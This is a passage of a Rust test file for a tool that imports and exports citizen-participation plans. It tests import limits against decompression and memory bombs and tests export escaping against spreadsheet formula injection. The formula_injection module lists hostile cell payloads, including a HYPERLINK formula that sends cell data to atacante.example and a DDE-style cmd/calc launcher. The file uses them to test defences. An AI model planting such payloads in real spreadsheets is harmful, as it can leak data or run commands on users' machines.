            .find(|a| a.number.get() == 13)
            .unwrap();
        a13.tags.covers.push(Component::SocialControl);
        let plan = Plan::try_from_draft(draft).unwrap();
        let got = codes(&plan);
        assert!(!got.contains(&"COMPONENTE:control_social".to_string()));
        assert!(got.contains(&"COMPONENTE:gestion_conocimiento".to_string()));
        let mut draft = plan.into_draft();
        draft.legal_framework = participa_domain::LegalFramework::from_text(
            &draft.legal_framework.text.replace("1750", "1757"),
        );
        let fixed = Plan::try_from_draft(draft).unwrap();
        assert!(!codes(&fixed).iter().any(|c| c.starts_with("NORMA")));
    }

    #[test]
    fn an_untagged_plan_lacks_every_phase_stage_and_element() {
        let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
        let got = codes(&plan);
        for c in [
            "FASE:diagnostico",
            "FASE:formulacion",
            "FASE:implementacion",
            "FASE:evaluacion_seguimiento",
            "MURC_ETAPA:aprestamiento",
            "MURC_ELEMENTO:dialogo",
        ] {
            assert!(got.contains(&c.to_string()), "{c} in {got:?}");
        }
    }

    #[test]
    fn tags_travel_in_every_export_and_read_back() {
        use participa_formats::{export_plan, ExportFormat};
        let plan = tagged_seed();
        for format in [ExportFormat::Tsv, ExportFormat::Xlsx, ExportFormat::Json] {
            let bytes = export_plan(&plan, format);
            let back = match format {
                ExportFormat::Json => {
                    serde_json::from_slice::<participa_formats::json::PlanJson>(&bytes)
                        .unwrap()
                        .into_plan()
                        .unwrap()
                }
                _ => import_plan("plan", &bytes, &ReadOptions::default()).unwrap(),
            };
            assert_eq!(back, plan, "{format:?}");
        }
        // An untagged plan keeps the seed's five columns.
        let untagged = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
        let tsv = String::from_utf8(export_plan(&untagged, ExportFormat::Tsv)).unwrap();
        assert!(!tsv.contains("Fases del ciclo"));
        let tsv = String::from_utf8(export_plan(&plan, ExportFormat::Tsv)).unwrap();
        assert!(
            tsv.contains("PRODUCTO O ENTREGABLE\tFases del ciclo\tEtapas MURC"),
            "{tsv}"
        );
        // A bad code in a tag column is an error with its line and column.
        let bad = tsv.replacen("\taprestamiento;diseno\t", "\taprestamiento;nada\t", 1);
        let e = import_plan("malo.txt", bad.as_bytes(), &ReadOptions::default()).unwrap_err();
        assert!(
            e.to_string().contains("Etapas MURC: «nada» no es válido"),
            "{e}"
        );
    }

    #[test]
    fn a_bad_tags_file_is_refused_whole_with_line_and_column() {
        let plan = import_plan("seed.txt", SEED, &ReadOptions::default()).unwrap();
        let bad = "numero\tfases\tcanal\tfurag\n3\tdiagnostico;nada\tvirtual\tPCI208\n99\t\t\t\n4\timplementacion\tsatelital\tXX\n";
        let e = apply_tags("malo.tsv", bad.as_bytes(), &plan).unwrap_err();
        let text = e.to_string();
        assert_eq!(e.errors.len(), 4, "{text}");
        assert!(
            text.contains("línea 2: fases: «nada» no es válido"),
            "{text}"
        );
        assert!(
            text.contains("línea 3: numero: «99» no es el número de una actividad"),
            "{text}"
        );
        assert!(text.contains("línea 4: canal: «satelital»"), "{text}");
        assert!(text.contains("línea 4: furag: «XX»"), "{text}");
    }

    /// The cells of the activities table of an exported workbook, with the title row.
    fn activity_table(bytes: &[u8]) -> (Vec<String>, Vec<Vec<calamine::Data>>) {
        use calamine::{Data, Reader, Xlsx};
        let mut book: Xlsx<_> =
            calamine::open_workbook_from_rs(std::io::Cursor::new(bytes.to_vec())).unwrap();
        let range = book.worksheet_range("Plan").unwrap();
        let rows: Vec<Vec<Data>> = range.rows().map(|r| r.to_vec()).collect();
        let header = rows
            .iter()
            .position(|r| r.first() == Some(&Data::String("Actividades".into())))
            .unwrap();
        let titles = rows[header].iter().map(|c| c.to_string()).collect();
        (titles, rows[header + 1..].to_vec())
    }

    #[test]
    fn the_workbook_writes_tags_by_label_and_reads_them_back_to_the_same_tags() {
        use calamine::Data;
        use participa_formats::tags_tsv::GroupNames;
        let mut plan = tagged_seed();
        // A group of the entity's own catalogue, with a comma in its name.
        let mut draft = plan.clone().into_draft();
        draft.activities[0].tags.value_groups.push("nna".into());
        plan = Plan::try_from_draft(draft).unwrap();
        let groups = GroupNames::new(
            GroupNames::default()
                .clone()
                .name_pairs()
                .into_iter()
                .chain([("nna".to_string(), "Niñas, niños y adolescentes".to_string())]),
        );
        let bytes = participa_formats::export_plan_with(
            &plan,
            participa_formats::ExportFormat::Xlsx,
            &groups,
        );
        let (titles, rows) = activity_table(&bytes);
        let col = |t: &str| titles.iter().position(|x| x == t).unwrap();
        let text = |r: usize, t: &str| rows[r][col(t)].to_string();
        // Labels, not codes.
        let all: Vec<String> = rows.iter().flatten().map(|c| c.to_string()).collect();
        for code in [
            "evaluacion_seguimiento",
            "seguimiento_evaluacion",
            "control_social",
            "plan_mejoramiento",
        ] {
            assert!(
                !all.iter().any(|c| c.contains(code)),
                "code {code} in a cell"
            );
        }
        let phases = text(10, "Fases del ciclo");
        assert_eq!(phases, "Diagnóstico; Evaluación y seguimiento");
        assert!(
            text(0, "Grupos de valor").ends_with("Niñas, niños y adolescentes"),
            "{}",
            text(0, "Grupos de valor")
        );
        // Dates are date cells.
        assert!(
            matches!(rows[0][col("Fecha inicial")], Data::DateTime(_)),
            "{:?}",
            rows[0][1]
        );
        // Read back with the same catalogue, every tag is the same.
        let back = import_plan(
            "plan.xlsx",
            &bytes,
            &ReadOptions {
                value_groups: groups.clone(),
                ..Default::default()
            },
        )
        .unwrap();
        assert_eq!(back, plan);
        // The tags file and the readers still take codes, and labels in any case.
        let by_label =
            "numero\tfases\tcanal\n3\tdiagnóstico; EVALUACION Y SEGUIMIENTO\tPresencial\n";
        let tagged = apply_tags("etiquetas.tsv", by_label.as_bytes(), &plan).unwrap();
        let a3 = &tagged.activities[2].tags;
        assert_eq!(a3.phases.len(), 2);
        assert_eq!(
            a3.channel,
            Some(participa_domain::tagging::Channel::InPerson)
        );
    }
}

mod bombs;

mod import_bombs {
    //! Issue 13, item 6: an import reads within bounds and refuses the first value past
    //! them, naming its place; a file with thousands of errors lists the first 100.

    use super::bombs::{seed_text_with, Workbook};
    use super::*;

    fn refused(name: &str, bytes: &[u8]) -> participa_formats::ImportErrors {
        match import_plan(name, bytes, &ReadOptions::default()) {
            Ok(plan) => panic!("{name} was imported: «{:.80}…»", plan.title),
            Err(e) => e,
        }
    }

    /// The one error of a file refused at a limit.
    fn only_error(name: &str, bytes: &[u8]) -> (String, participa_formats::ImportError) {
        let e = refused(name, bytes);
        let shown = e.to_string();
        assert!(shown.len() < 2_000, "a long report: {:.2000}", shown);
        assert_eq!(e.errors.len(), 1, "{shown}");
        (shown, e.errors[0].clone())
    }

    fn cell(row: u32, col: u32) -> Location {
        Location::Cell {
            sheet: "Plan".into(),
            row,
            col,
        }
    }

    #[test]
    fn the_seed_built_as_a_bare_workbook_imports_equal_to_the_tsv() {
        // The builder the bombs below spoil makes a good workbook when unspoilt.
        let plan = import_plan(
            "plan.xlsx",
            &Workbook::seed().xlsx(),
            &ReadOptions::default(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan, seed());
    }

    #[test]
    fn a_sheet_that_unzips_past_the_part_limit_is_refused_before_it_is_read() {
        // 700 000 tiny rows: 18 MB of sheet XML in a few dozen KB of file.
        let bytes = Workbook {
            extra_rows: 700_000,
            ..Workbook::seed()
        }
        .xlsx();
        assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
        let (shown, e) = only_error("filas.xlsx", &bytes);
        assert_eq!(e.location, Location::Document);
        assert_eq!(e.field, "Archivo");
        assert!(
            e.message.starts_with("la parte «xl/worksheets/sheet1.xml» del libro ocupa 18 MB al descomprimirla, y se leen hasta 16 MB; es una hoja"),
            "{shown}"
        );
        assert!(
            shown.starts_with("filas.xlsx: no se importó nada; 1 error:"),
            "{shown}"
        );
    }

    #[test]
    fn rows_past_the_row_limit_are_refused_at_the_first_one() {
        let bytes = Workbook {
            extra_rows: 6_000,
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("filas.xlsx", &bytes);
        assert_eq!(e.location, cell(5_000, 0), "{shown}");
        assert!(
            shown.contains("filas.xlsx: hoja «Plan», celda A5001: Archivo: hay datos más allá de la fila 5\u{a0}000, la última que se lee"),
            "{shown}"
        );
    }

    #[test]
    fn a_title_too_large_to_read_is_refused_before_it_is_read() {
        // The review's file had a title of 150 MB and was imported; 20 MB is past the
        // limit as well (the web test and the memory example send the 150 MB one).
        let bytes = Workbook {
            title_padding: 20_000_000,
            ..Workbook::seed()
        }
        .xlsx();
        assert!(bytes.len() < 200_000, "{} bytes", bytes.len());
        let (shown, e) = only_error("titulo.xlsx", &bytes);
        assert_eq!(e.location, Location::Document);
        assert!(
            e.message.starts_with("la parte «xl/sharedStrings.xml» del libro ocupa 20 MB al descomprimirla, y se leen hasta 8 MB; son los textos de las celdas"),
            "{shown}"
        );
    }

    #[test]
    fn a_cell_past_the_character_limit_is_refused_with_its_cell_or_line_and_column() {
        let bytes = Workbook {
            title_padding: 10_000,
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("titulo.xlsx", &bytes);
        assert_eq!(e.location, cell(8, 1), "{shown}");
        assert!(
            shown.contains("titulo.xlsx: hoja «Plan», celda B9: Archivo: la celda pasa de 10\u{a0}000 caracteres, el máximo por celda"),
            "{shown}"
        );
        // The same in the text layout: line 9, the value's column.
        let text = seed_text().replace(
            "\tFormulación Plan de Participación Ciudadana 2025\n",
            &format!(
                "\tFormulación Plan de Participación Ciudadana {} 2025\n",
                "x".repeat(10_000)
            ),
        );
        let (shown, e) = only_error("titulo.txt", text.as_bytes());
        assert_eq!(e.location, Location::Line(9), "{shown}");
        assert!(
            shown.contains(
                "titulo.txt: línea 9: columna 2: la celda pasa de 10\u{a0}000 caracteres"
            ),
            "{shown}"
        );
        // 10 000 characters fit.
        let fits = seed_text().replace(
            "\tFormulación Plan de Participación Ciudadana 2025\n",
            &format!(
                "\tFormulación Plan de Participación Ciudadana {} 2025\n",
                "x".repeat(9_900)
            ),
        );
        let plan = import_plan("largo.txt", fits.as_bytes(), &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{e}"));
        assert!(plan.title.contains(&"x".repeat(9_900)));
    }

    #[test]
    fn a_shared_strings_count_that_would_reserve_gigabytes_is_refused() {
        // Calamine reserves room for the announced count before reading a string: 50
        // million is 1.2 GB of address space (far more aborts the process).
        let bytes = Workbook {
            unique_count: Some(50_000_000),
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("cuenta.xlsx", &bytes);
        assert_eq!(e.location, Location::Document);
        assert!(
            e.message.contains(
                "más de 300\u{a0}000 textos distintos (uniqueCount de xl/sharedStrings.xml)"
            ),
            "{shown}"
        );
        // Four trillion: today's reader asks for 96 TB and the process aborts.
        let bytes = Workbook {
            unique_count: Some(4_000_000_000_000),
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, _) = only_error("cuenta.xlsx", &bytes);
        assert!(shown.contains("uniqueCount"), "{shown}");
    }

    #[test]
    fn a_package_of_too_many_parts_is_refused() {
        let bytes = Workbook {
            extra_parts: 1_000,
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("partes.xlsx", &bytes);
        assert_eq!(e.location, Location::Document);
        assert!(
            e.message.starts_with("el libro tiene 1\u{a0}006 partes"),
            "{shown}"
        );
    }

    #[test]
    fn styles_that_calamine_would_multiply_are_refused() {
        // Calamine builds a record for each cell format and copies the font's name into
        // it: 1.6 million empty formats, or a long name used by thousands of them.
        let bytes = Workbook {
            styles: 1_600_000,
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("estilos.xlsx", &bytes);
        assert_eq!(e.location, Location::Document);
        assert!(
            e.message.starts_with("los estilos del libro («xl/styles.xml») tienen más de 50\u{a0}000 formatos, fuentes, rellenos y bordes"),
            "{shown}"
        );
        let bytes = Workbook {
            styles: 20_000,
            font_name: 5_000,
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("fuentes.xlsx", &bytes);
        assert!(
            e.message
                .contains("un nombre de fuente o un formato de número de más de 512 caracteres"),
            "{shown}"
        );
        // A plain styles part, as spreadsheet programs write, is read.
        let plan = import_plan(
            "estilos.xlsx",
            &Workbook {
                styles: 300,
                font_name: 7,
                ..Workbook::seed()
            }
            .xlsx(),
            &ReadOptions::default(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan, seed());
    }

    #[test]
    fn a_value_in_a_far_cell_is_refused_with_its_cell() {
        // Column BZ of an activity row: past the 60 columns.
        let bytes = Workbook {
            far_cell: Some("BZ30"),
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("lejos.xlsx", &bytes);
        assert_eq!(e.location, cell(29, 77), "{shown}");
        assert!(
            e.message
                .starts_with("hay datos más allá de la columna 60, la última que se lee"),
            "{shown}"
        );
        // The last cell of a sheet: a grid of the whole sheet would be 17 billion cells
        // (calamine's range asks for 550 GB and the process aborts).
        let bytes = Workbook {
            far_cell: Some("XFD1048576"),
            ..Workbook::seed()
        }
        .xlsx();
        let (shown, e) = only_error("lejos.xlsx", &bytes);
        assert_eq!(e.location, cell(1_048_575, 16_383), "{shown}");
        assert!(shown.contains("hoja «Plan», celda XFD1048576"), "{shown}");
    }

    #[test]
    fn lines_past_the_row_limit_are_refused_at_the_first_one() {
        let bytes = seed_text_with(6_000, "1\t2");
        let (shown, e) = only_error("filas.txt", &bytes);
        assert_eq!(e.location, Location::Line(5_001), "{shown}");
        assert!(
            shown.contains(
                "filas.txt: línea 5001: Archivo: hay datos más allá de la línea 5\u{a0}000"
            ),
            "{shown}"
        );
        // Blank lines past it, as a spreadsheet exports its used range, are skipped.
        let plan = import_plan(
            "blancas.txt",
            &seed_text_with(20_000, "\t\t \t"),
            &ReadOptions::default(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan, seed());
    }

    #[test]
    fn a_line_with_values_past_the_column_limit_is_refused_at_that_column() {
        let line = format!("{}x", "\t".repeat(2_000_000));
        let (shown, e) = only_error("columnas.txt", &seed_text_with(1, &line));
        assert_eq!(e.location, Location::Line(47), "{shown}");
        assert_eq!(e.field, "columna 2000001");
        assert!(
            e.message.starts_with("hay datos más allá de la columna 60"),
            "{shown}"
        );
        // Blank cells past it are skipped.
        let plan = import_plan(
            "anchas.txt",
            &seed_text_with(3, &"\t".repeat(100_000)),
            &ReadOptions::default(),
        )
        .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan, seed());
    }

    #[test]
    fn a_text_file_past_the_text_limit_is_refused_where_it_passes() {
        // 500 cells of 9 000 characters: each fits, together 4.5 MB.
        let line = vec!["y".repeat(9_000); 5].join("\t");
        let (shown, e) = only_error("texto.txt", &seed_text_with(100, &line));
        assert_eq!(e.field, "columna 1", "{shown}");
        assert!(
            e.message
                .starts_with("el texto del archivo pasa de 4 MB, el máximo que se lee"),
            "{shown}"
        );
        assert!(
            matches!(e.location, Location::Line(n) if n > 46 && n < 147),
            "{shown}"
        );
    }

    #[test]
    fn a_file_past_the_size_limit_is_refused_before_it_is_read() {
        let bytes = vec![b' '; 10 * 1024 * 1024 + 1];
        let (shown, e) = only_error("grande.txt", &bytes);
        assert_eq!(e.location, Location::Document);
        assert!(
            e.message
                .starts_with("el archivo pasa de 10 MB, el máximo que se lee"),
            "{shown}"
        );
    }

    #[test]
    fn thousands_of_bad_rows_list_the_first_100_and_count_the_rest() {
        // After the signatures every line is a stray one: 4 000 errors.
        let bytes = seed_text_with(4_000, "dato\tsuelto");
        let e = refused("malo.txt", &bytes);
        assert_eq!(e.errors.len(), 100);
        let shown = e.to_string();
        assert!(
            shown.starts_with("malo.txt: no se importó nada; 4\u{a0}000 errores:"),
            "{:.300}",
            shown
        );
        assert!(
            shown.ends_with("  y 3\u{a0}900 errores más\n"),
            "{:.300}",
            shown
        );
        assert!(shown.len() < 20_000, "{} bytes", shown.len());
        // The listed ones are the first, in file order.
        assert!(
            shown.contains("malo.txt: línea 47: Firmas: fila no reconocida «dato | suelto»"),
            "{:.600}",
            shown
        );
        // A bad row past the limit quotes a short excerpt of its cell.
        let long = seed_text_with(1, &"z".repeat(9_000));
        let shown = refused("largo.txt", &long).to_string();
        assert!(shown.len() < 1_000, "{} bytes: {:.300}", shown.len(), shown);
    }
}

mod formula_injection {
    //! Issue 13, item 8: the open-data CSV and TSV never start a cell the way a formula
    //! starts, and the TSV still imports back to the same plan.

    use super::*;
    use participa_domain::{OfficeCode, Signature};
    use participa_formats::formula_guard::{restore, TRIGGERS};

    const HOSTILE: [&str; 6] = [
        "=HYPERLINK(\"http://atacante.example/?d=\"&A1;\"Ver informe\")",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+57 300 000 0000",
        "-3 informes trimestrales",
        "'Informe' entre comillas simples",
        "''dos comillas",
    ];

    /// The seed with a hostile text at the start of every free-text field.
    fn hostile_plan() -> Plan {
        let mut d = seed().into_draft();
        d.entity = HOSTILE[0].into();
        d.alignment.policy = HOSTILE[1].into();
        d.objectives = vec![HOSTILE[3].into(), HOSTILE[4].into()];
        d.legal_framework = participa_domain::LegalFramework::from_text(&format!(
            "{} Ley 1757 de 2015",
            HOSTILE[2]
        ));
        for (i, a) in d.activities.iter_mut().enumerate() {
            a.description = HOSTILE[i % HOSTILE.len()].into();
            a.deliverable = HOSTILE[(i + 1) % HOSTILE.len()].into();
        }
        let leader = d.offices[0].code.clone();
        assert_eq!(leader, OfficeCode::parse("OAPLA").unwrap());
        d.signatures = vec![Signature {
            role: SignatureRole::Consolidated,
            name: HOSTILE[0].into(),
            position: HOSTILE[3].into(),
        }];
        Plan::try_from_draft(d).unwrap()
    }

    fn cells(bytes: &[u8], delimiter: u8) -> Vec<String> {
        let mut r = csv::ReaderBuilder::new()
            .delimiter(delimiter)
            .has_headers(false)
            .flexible(true)
            .from_reader(bytes);
        r.records()
            .flat_map(|rec| rec.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
            .collect()
    }

    #[test]
    fn no_cell_of_the_open_data_csv_or_tsv_starts_like_a_formula() {
        let plan = hostile_plan();
        for (format, delimiter) in [(ExportFormat::Csv, b','), (ExportFormat::Tsv, b'\t')] {
            let bytes = export_plan(&plan, format);
            let cells = cells(&bytes, delimiter);
            for c in &cells {
                assert!(!c.starts_with(TRIGGERS), "{format}: cell {c:?}");
            }
            // Every hostile text is there: whole behind one quote, or inside a cell.
            for h in HOSTILE {
                assert!(
                    cells.iter().any(|c| restore(c) == h || c.contains(h)),
                    "{format}: {h:?} missing"
                );
            }
            // Restoring gives the texts back.
            assert!(cells.iter().any(|c| restore(c) == HOSTILE[0]), "{format}");
        }
    }

    #[test]
    fn a_tsv_export_with_formula_like_texts_imports_back_to_the_same_plan() {
        let plan = hostile_plan();
        let tsv = export_plan(&plan, ExportFormat::Tsv);
        let back = import_plan("datos.tsv", &tsv, &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{e}\n{}", String::from_utf8_lossy(&tsv)));
        assert_eq!(back, plan);
        assert!(back.activities[0].description.starts_with("=HYPERLINK("));
        assert_eq!(back.activities[2].deliverable, "-3 informes trimestrales");
        assert_eq!(
            back.activities[3].deliverable,
            "'Informe' entre comillas simples"
        );
    }

    #[test]
    fn the_xlsx_export_writes_formula_like_texts_as_strings_and_reads_them_back() {
        let plan = hostile_plan();
        let bytes = export_plan(&plan, ExportFormat::Xlsx);
        let parts = zip_entries(&bytes);
        let sheet = &parts["xl/worksheets/sheet1.xml"];
        assert!(
            !sheet.contains("<f>") && !sheet.contains("<f "),
            "a formula cell"
        );
        let strings = &parts["xl/sharedStrings.xml"];
        assert!(
            strings.contains("<t>=HYPERLINK(\"http://atacante.example/?d=\"&amp;A1;"),
            "{strings:.2000}"
        );
        let back = import_plan("datos.xlsx", &bytes, &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(back, plan);
    }

    #[test]
    fn a_hand_typed_apostrophe_before_ordinary_text_stays() {
        let text = seed_text().replace("\tInstructivo y estrategia", "\t'90 días de instructivo");
        let plan = import_plan("plan.txt", text.as_bytes(), &ReadOptions::default())
            .unwrap_or_else(|e| panic!("{e}"));
        assert_eq!(plan.activities[0].deliverable, "'90 días de instructivo");
    }
}
